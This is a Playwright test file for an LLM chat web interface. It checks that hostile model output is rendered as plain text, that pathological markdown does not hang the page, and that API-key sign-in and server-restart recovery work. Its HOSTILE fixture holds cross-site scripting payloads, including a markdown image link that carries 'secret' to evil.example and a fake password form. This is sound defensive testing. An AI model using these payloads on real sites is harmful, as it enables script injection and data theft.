"""What hostile answers, wrong keys and lost servers do to the page.

The fixture `watch` fails a test in which the page reaches for another server, or in which a policy is broken.
"""

import re

import pytest
from playwright.sync_api import BrowserContext, Page, Route, expect
from starlette.types import Receive, Scope, Send

from tests.api.fakes import serving
from tests.ui.conftest import ask
from tests.ui.scripted_models import PAUSE, Script, page_server, scripted_app, words

KEY = "open sesame"
HOSTILE = """\
<script>document.title = "taken"</script>
<img src="https://evil.example/pixel.png" onerror="document.title = 'taken'">
<iframe src="https://evil.example/"></iframe><style>body { display: none }</style>

![secret](https://evil.example/?q=secret) [click](javascript:alert(1))
[data](data:text/html,<script>1</script>)
[site](https://evil.example/page) <https://evil.example/auto>

<svg onload="document.title = 'taken'"></svg> $\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/a.png}$

```html
<script>document.title = "taken"</script>
```

| <b onclick="alert(1)">cell</b> | `<i>` |
|---|---|
| <form action="https://evil.example/"><input name="password"></form> | &lt;u&gt; |

[later]: javascript:alert(1)
[reference][later]
"""


def test_hostile_answer_is_only_text(page: Page, script: Script) -> None:
    script.answer("Go", words(HOSTILE))
    ask(page, "Go")
    expect(page.locator(".assistant .facts")).to_contain_text(" token")
    answer = page.locator(".assistant .markdown")
    expect(answer).to_contain_text('<script>document.title = "taken"</script>')
    assert "taken" not in page.title()
    assert (
        answer.locator(
            "script, img, iframe, style, svg:not(.icon), form, input, object, [onclick], [onload]"
        ).count()
        == 0
    )
    addresses = answer.locator("a").evaluate_all("links => links.map(link => [link.href, link.rel])")
    assert {rel for _, rel in addresses} == {"noopener noreferrer nofollow"}
    assert {address for address, _ in addresses} == {
        "https://evil.example/?q=secret",
        "https://evil.example/page",
        "https://evil.example/auto",
    }


@pytest.mark.parametrize(
    "text",
    [
        ">" * 20_000 + " deep",
        "- " * 5_000 + "deep",
        "".join(f"{'>' * level} quote\n" for level in range(1, 1_000)) + "\ndeep",
        "".join(f"{'  ' * level}- item\n" for level in range(600)) + "\n\ndeep",
    ],
    ids=["quotes", "lists", "lines of quotes", "lines of lists"],
)
def test_answer_that_is_nested_too_deeply_is_shown_as_it_is(page: Page, script: Script, text: str) -> None:
    script.answer("Go", (text, " end"))
    ask(page, "Go")
    expect(page.locator(".assistant .facts")).to_contain_text(" token")
    expect(page.locator(".assistant .markdown")).to_contain_text("deep end")


def test_answer_with_a_huge_list_and_a_huge_table_does_not_stop_the_page(page: Page, script: Script) -> None:
    table = "|a|b|c|\n|---|---|---|\n" + "|one|two|three|\n" * 4_000
    script.answer("Go", ("- item with **bold**\n" * 15_000, "\nAnd:\n\n", table, "\nThe end"))
    ask(page, "Go")
    expect(page.locator(".assistant .facts")).to_contain_text(" token")
    answer = page.locator(".assistant .markdown")
    expect(answer.locator("li")).to_have_count(15_000)
    expect(answer.locator(".code code")).to_have_text(re.compile(r"^\|a\|b\|c\|.*\|three\|$", re.DOTALL))
    expect(answer.locator("p").last).to_have_text("The end")


def test_answer_with_thousands_of_marks_does_not_stop_the_page(page: Page, script: Script) -> None:
    script.answer("Go", ("*a_" * 7_000, " end\n\n**bold**"))
    ask(page, "Go")
    expect(page.locator(".assistant .facts")).to_contain_text(" token")
    expect(page.locator(".assistant .markdown")).to_contain_text("*a_*a_ end")
    expect(page.locator(".assistant .markdown strong")).to_have_text("bold")


@pytest.mark.parametrize(
    "text", ["a." * 50_000 + "@", "https://a" + "&a;" * 40_000], ids=["mail address", "web address"]
)
def test_answer_with_an_endless_word_does_not_stop_the_page(page: Page, script: Script, text: str) -> None:
    script.answer("Go", (text, " end, https://site.example and me@site.example\n\n**bold**"))
    ask(page, "Go")
    expect(page.locator(".assistant .facts")).to_contain_text(" token")
    answer = page.locator(".assistant .markdown")
    expect(answer).to_contain_text(f"{text} end")
    expect(answer.locator("a")).to_have_text(["https://site.example", "me@site.example"])
    expect(answer.locator("strong")).to_have_text("bold")


def test_question_and_title_are_only_text(page: Page) -> None:
    ask(page, "<img src=x onerror=alert(1)> **bold**")
    expect(page.locator(".assistant .facts")).to_contain_text(" token")
    expect(page.locator(".question")).to_have_text("<img src=x onerror=alert(1)> **bold**")
    expect(page.locator("#conversations .title")).to_have_text("<img src=x onerror=alert(1)> **bold**")
    assert page.locator("img").count() == 0


def test_key_is_asked_for_and_kept_in_the_tab_alone(context: BrowserContext, script: Script) -> None:
    with page_server(script, api_key=KEY) as url:
        page = context.new_page()
        addresses: list[str] = []
        page.on("request", lambda request: addresses.append(request.url))
        page.goto(url)
        field = page.get_by_label("This server requires an API key.")
        field.fill("wrong")
        page.keyboard.press("Enter")
        expect(page.get_by_text("The server does not accept this key.")).to_be_visible()
        field.fill(KEY)
        page.keyboard.press("Enter")
        expect(page.get_by_role("dialog", name="Sign in")).to_be_hidden()
        ask(page, "Hello")
        expect(page.locator(".assistant .facts")).to_contain_text(" token")
        page.reload()
        expect(page.locator(".assistant")).to_contain_text("I do not know.")
        assert not any("sesame" in address for address in addresses)
        other = context.new_page()
        other.goto(page.url)
        expect(other.get_by_role("heading", name="Sign in")).to_be_visible()
        page.get_by_role("button", name="More").click()
        page.get_by_role("button", name="Sign out").click()
        expect(page.get_by_role("heading", name="Sign in")).to_be_visible()


def test_second_key_does_not_replace_one_that_is_being_tried(context: BrowserContext, script: Script) -> None:
    tried: list[str] = []

    def enter_another(route: Route) -> None:
        key = route.request.headers.get("authorization")
        if key is not None and not tried:
            tried.append(key)
            page.keyboard.type("Hello")
            page.keyboard.press("Enter")
        route.fallback()

    with page_server(script, api_key=KEY) as url:
        page = context.new_page()
        page.route("**/api/v1/chat/models", enter_another)
        page.goto(url)
        page.get_by_label("This server requires an API key.").fill(KEY)
        page.keyboard.press("Enter")
        expect(page.get_by_role("dialog", name="Sign in")).to_be_hidden()
        ask(page, "Hello")
        expect(page.locator(".assistant .facts")).to_contain_text(" token")
    assert tried == [f"Bearer {KEY}"]


def test_signing_in_does_not_ask_twice_as_often_which_turns_run(
    context: BrowserContext, script: Script
) -> None:
    polls: list[str] = []
    with page_server(script, api_key=KEY) as url:
        page = context.new_page()
        page.clock.install(time=0)
        page.clock.pause_at(1000)  # the page asks by its timer, which then does not run
        page.on("request", lambda request: polls.append(request.url) if "/turns" in request.url else None)
        page.goto(url)
        page.get_by_label("This server requires an API key.").fill(KEY)
        page.keyboard.press("Enter")
        expect(page.get_by_text("Your conversations will be here.")).to_be_visible()
        page.wait_for_load_state("networkidle")
    assert len(polls) == 1


def test_restarted_server_gets_a_lost_conversation_back(context: BrowserContext, script: Script) -> None:
    with page_server(script) as url:
        port = int(url.rpartition(":")[2])
        page = context.new_page()
        page.goto(url)
        ask(page, "Hello")
        expect(page.locator(".assistant .facts")).to_contain_text(" token")
    page.evaluate("dispatchEvent(new Event('online'))")  # the page looks at once whether the server answers
    expect(page.get_by_text("The server does not answer.")).to_be_visible()
    with page_server(script, port):
        page.get_by_role("button", name="Give it back").click()
        expect(page.get_by_text("The server does not answer.")).to_be_hidden()
        expect(page.locator("#conversations .title")).to_have_text("Hello")
        ask(page, "Again")
        expect(page.locator(".assistant")).to_have_count(2)
        expect(page.locator(".assistant .facts").nth(1)).to_contain_text(" token")
    (*_, prompt) = script.prompts
    assert prompt.messages is not None
    assert [message.content for message in prompt.messages] == ["Hello", "I do not know.", "Again"]


def test_page_works_below_the_prefix_of_a_proxy(context: BrowserContext, script: Script) -> None:
    app = scripted_app(script)

    async def below_prefix(scope: Scope, receive: Receive, send: Send) -> None:
        await app({**scope, "root_path": "/llm"}, receive, send)

    with serving(below_prefix) as url:
        page = context.new_page()
        page.goto(f"{url}/llm/ui")
        ask(page, "Hello")
        expect(page.locator(".assistant .facts")).to_contain_text(" token")


def test_turn_of_a_stopped_server_ends_with_its_text(context: BrowserContext, script: Script) -> None:
    script.answer("Hello", ("Good ", PAUSE, "morning"))
    with page_server(script) as url:
        page = context.new_page()
        page.goto(url)
        ask(page, "Hello")
        expect(page.get_by_text("Good", exact=True)).to_be_visible()
    expect(page.get_by_text("The server does not answer.")).to_be_visible()
    expect(page.get_by_text("Good", exact=True)).to_be_visible()
